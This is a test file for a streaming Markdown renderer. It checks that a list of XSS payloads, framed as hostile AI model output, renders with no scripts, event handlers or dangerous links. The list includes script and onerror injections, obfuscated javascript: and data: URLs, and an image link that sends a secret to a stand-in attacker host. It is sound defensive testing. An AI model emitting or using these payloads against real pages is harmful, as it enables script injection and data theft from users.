import { afterEach, describe, expect, it } from 'vitest';
import { cleanup, render } from '@testing-library/react';
import { StreamingMarkdown } from '../../../src/headless/markdown';

afterEach(cleanup);

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  'inline <script>alert(1)</script> script',
  '<img src=x onerror=alert(1)>',
  'text <img src=x onerror=alert(1)> text',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)><circle/></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](java&#x09;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example/phish)',
  '[x](/relative/path)',
  '![x](https://evil.example/p.png?secret=42)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<JavaScript:alert(1)>',
  'See [x][r].\n\n[r]: javascript:alert(1)',
  'See [r].\n\n[r]: <javascript:alert(1)> "t"',
  '[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> [y](javascript:alert(1)) |',
  '- [x](javascript:alert(1))\n> [y](javascript:alert(2))',
  '```html\n<script>alert(1)</script>\n```',
];

function assertSafe(root: Element, source: string): void {
  const context = `for ${JSON.stringify(source)}`;
  expect(root.querySelectorAll('script, img, iframe, object, embed, svg, style, link, meta, form'), context).toHaveLength(0);
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.getAttributeNames()) {
      expect(attribute.startsWith('on'), `${context}: ${attribute} on <${element.tagName}>`).toBe(false);
      expect(['src', 'srcdoc', 'style', 'formaction', 'action'].includes(attribute), `${context}: ${attribute}`).toBe(false);
    }
  }
  for (const anchor of root.querySelectorAll('a')) {
    const href = anchor.getAttribute('href') ?? '';
    expect(href, context).toMatch(/^(https?:\/\/|mailto:)/);
    expect(anchor.getAttribute('rel'), context).toBe('noopener noreferrer');
    expect(anchor.getAttribute('target'), context).toBe('_blank');
  }
}

describe('StreamingMarkdown with hostile model output', () => {
  it.each(HOSTILE)('renders %j without active content', (source) => {
    const { container } = render(<StreamingMarkdown text={source} />);
    assertSafe(container, source);
  });

  it('stays safe at every prefix while the hostile output streams in', () => {
    const { container, rerender } = render(<StreamingMarkdown text="" streaming />);
    for (const source of HOSTILE) {
      for (let end = 1; end <= source.length; end++) {
        rerender(<StreamingMarkdown text={source.slice(0, end)} streaming />);
        assertSafe(container, source.slice(0, end));
      }
    }
  });

  it('shows raw HTML as literal text', () => {
    const { container } = render(<StreamingMarkdown text={'<script>alert(1)</script>\n\nhi <img src=x onerror=alert(1)> there'} />);
    expect(container.textContent).toContain('<script>alert(1)</script>');
    expect(container.textContent).toContain('hi <img src=x onerror=alert(1)> there');
  });

  it('shows the text of a blocked link instead of a link', () => {
    const { container } = render(<StreamingMarkdown text="Click [here](javascript:alert(1)) now" />);
    expect(container.querySelector('a')).toBeNull();
    expect(container.querySelector('[data-md="blocked-link"]')?.textContent).toBe('here');
    expect(container.textContent).toBe('Click here now');
  });

  it('shows only the alt text of an image with a disallowed source, even with an img override', () => {
    const { container } = render(
      <StreamingMarkdown text="![pixel](data:image/png;base64,AAAA)" components={{ img: (props) => <img {...props} /> }} />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('[data-md="image-alt"]')?.textContent).toBe('pixel');
  });

  it('keeps a reference definition to javascript: from becoming a link once the message is complete', () => {
    const { container } = render(<StreamingMarkdown text={'See [x][r].\n\n[r]: javascript:alert(1)'} />);
    expect(container.querySelector('a')).toBeNull();
    expect(container.querySelector('[data-md="blocked-link"]')?.textContent).toBe('x');
  });
});
